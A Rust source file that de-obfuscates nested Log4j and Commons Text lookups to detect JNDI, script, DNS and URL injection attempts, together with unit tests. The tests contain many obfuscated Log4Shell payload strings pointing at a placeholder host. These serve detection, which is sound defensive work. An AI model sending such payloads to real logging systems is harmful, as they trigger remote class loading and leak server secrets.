//! Lookups of Log4j and Commons Text: `${jndi:…}`, with the lookups inside lookups undone.
//!
//! `${${lower:j}${::-n}${env:X:-d}i:…}` is put together as the library would: the part after `:-` is what
//! a lookup that finds nothing becomes, `lower` and `upper` become their argument. What is put together
//! is kept in a fixed space; the text is read once.

/// What a lookup reaches for.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Lookup {
    /// Variables and properties of the server.
    Reads,
    /// Another server, or a script.
    Runs,
}

const SPACE: usize = 96;
const DEPTH: usize = 24;

struct Resolver {
    bytes: [u8; SPACE],
    len: usize,
    /// Where each lookup that is open begins in `bytes`.
    begins: [usize; DEPTH],
    depth: usize,
    /// Lookups that became text: how obfuscated the whole is.
    spelled: usize,
}

/// Reads the lookup whose `${` stands at `at`; what it reaches for and where the reading ended.
pub(super) fn read(text: &[u8], at: usize) -> (Option<Lookup>, usize) {
    let mut resolver = Resolver {
        bytes: [0; SPACE],
        len: 0,
        begins: [0; DEPTH],
        depth: 0,
        spelled: 0,
    };
    let mut best = None;
    let mut at = at;
    while let Some(byte) = text.get(at).copied() {
        let opens = byte == b'$' && text.get(at + 1) == Some(&b'{');
        at += if opens { 2 } else { 1 };
        let found = match byte {
            _ if opens => resolver.open(),
            b'}' => resolver.close(),
            _ => {
                resolver.push(byte);
                None
            }
        };
        best = best.max(found);
        if best == Some(Lookup::Runs) || resolver.depth == 0 {
            break;
        }
    }
    // A lookup that is not closed may be closed by what the server writes after it.
    while resolver.depth > 0 && best != Some(Lookup::Runs) {
        best = best.max(resolver.close());
    }
    if best == Some(Lookup::Reads) && resolver.spelled >= 3 {
        best = Some(Lookup::Runs);
    }
    (best, at)
}

impl Resolver {
    fn push(&mut self, byte: u8) {
        // `${date:'j'}`
        if byte == b'\'' {
            return;
        }
        // `${upper:ı}` is `I`.
        let before = self
            .len
            .checked_sub(1)
            .and_then(|at| self.bytes.get_mut(at));
        if let (0xb1, Some(before)) = (byte, before)
            && *before == 0xc4
        {
            *before = b'i';
            return;
        }
        if let Some(place) = self.bytes.get_mut(self.len) {
            *place = byte.to_ascii_lowercase();
            self.len += 1;
        }
    }

    fn open(&mut self) -> Option<Lookup> {
        // What is too long or too deep around a lookup says nothing about it.
        if self.len + 48 > SPACE || self.depth == DEPTH {
            self.len = 0;
            self.depth = 0;
        }
        if let Some(place) = self.begins.get_mut(self.depth) {
            *place = self.len;
        }
        self.depth += 1;
        None
    }

    /// The innermost lookup ends: what it becomes, or reaches for.
    fn close(&mut self) -> Option<Lookup> {
        self.depth = self.depth.saturating_sub(1);
        let begin = self.begins.get(self.depth).copied().unwrap_or(self.len);
        let inside = self.bytes.get(begin..self.len)?;
        let nested = self.depth > 0 && inside.starts_with(b"base64:");
        let reaches = if nested {
            Some(Lookup::Runs)
        } else {
            reaches(inside)
        };
        if reaches.is_some() {
            return reaches;
        }
        let skipped = memchr::memmem::find(inside, b":-").map(|at| at + 2);
        let skipped = skipped.or_else(|| {
            let colon = inside.iter().position(|byte| *byte == b':')?;
            matches!(
                inside.get(..colon)?,
                b"lower" | b"upper" | b"date" | b"base64decoder" | b"const"
            )
            .then_some(colon + 1)
        });
        let reads = matches!(
            inside.split(|byte| *byte == b':').next(),
            Some(
                b"env"
                    | b"sys"
                    | b"ctx"
                    | b"java"
                    | b"main"
                    | b"bundle"
                    | b"k8s"
                    | b"docker"
                    | b"web"
                    | b"spring"
                    | b"hostname"
                    | b"event"
                    | b"file"
                    | b"xml"
                    | b"properties"
                    | b"resourcebundle"
            )
        ) && inside.contains(&b':');
        match skipped {
            Some(skipped) => {
                self.spelled += 1;
                self.bytes.copy_within(begin + skipped..self.len, begin);
                self.len -= skipped;
            }
            None => self.len = begin,
        }
        (reads && skipped.is_none()).then_some(Lookup::Reads)
    }
}

fn reaches(inside: &[u8]) -> Option<Lookup> {
    let runs = inside.strip_prefix(b"jndi:").is_some_and(names_something)
        || inside.starts_with(b"script:")
        || inside.starts_with(b"dns:")
        || (inside.starts_with(b"url:") && inside.contains(&b'/'));
    runs.then_some(Lookup::Runs)
}

/// Whether an address has something behind its scheme: not `ldap://…`, as texts about attacks leave it out.
fn names_something(address: &[u8]) -> bool {
    let scheme = address.iter().take_while(|own| own.is_ascii_alphabetic());
    let rest = address.get(scheme.count()..).unwrap_or_default();
    let rest = rest.strip_prefix(b":").unwrap_or(rest);
    let slashes = rest.iter().take_while(|own| **own == b'/').count();
    let left_out = |own: &u8| matches!(own, b'"' | b'\'' | b'`' | b' ' | b'\n' | 0x80..);
    !rest.get(slashes).is_some_and(left_out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lookups_are_put_together() {
        for text in [
            "${jndi:ldap://x/a}",
            "${jndi:ldap://x/a",
            "${JnDi:rmi://x}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x}",
            "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}",
            "${${upper:${lower:j}}ndi:dns://x}",
            "${j${k8s:k5:-ND}i:ldap://x}",
            "${${what:ever:-j}ndi:x}",
            "${script:javascript:1+1}",
            "${url:UTF-8:https://x/}",
            "${dns:address|x.example}",
            "${x:${jndi:ldap://x}}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "${jnd${upper:ı}:ldap://x}",
        ] {
            assert_eq!(read(text.as_bytes(), 0).0, Some(Lookup::Runs), "{text}");
        }
        assert_eq!(read(b"${env:HOME}", 0).0, Some(Lookup::Reads));
        for text in [
            "${name}",
            "${a ? b : c}",
            "${x:-y}",
            "${user.name}",
            "${items.map(x => x)}",
        ] {
            assert_eq!(read(text.as_bytes(), 0).0, None, "{text}");
        }
    }

    #[test]
    fn what_stands_around_a_lookup_hides_nothing() {
        for around in ["${".repeat(100), format!("${{{}", "a".repeat(500))] {
            let text = format!("{around}${{jndi:ldap://x}}");
            assert_eq!(read(text.as_bytes(), 0).0, Some(Lookup::Runs), "{text}");
        }
    }

    #[test]
    fn deep_nesting_stays_in_its_space() {
        assert_eq!(read("${".repeat(1000).as_bytes(), 0).0, None);
        let deep = format!("${{{}jndi:x", "${a:-".repeat(10));
        assert_eq!(read(deep.as_bytes(), 0).0, Some(Lookup::Runs));
    }
}
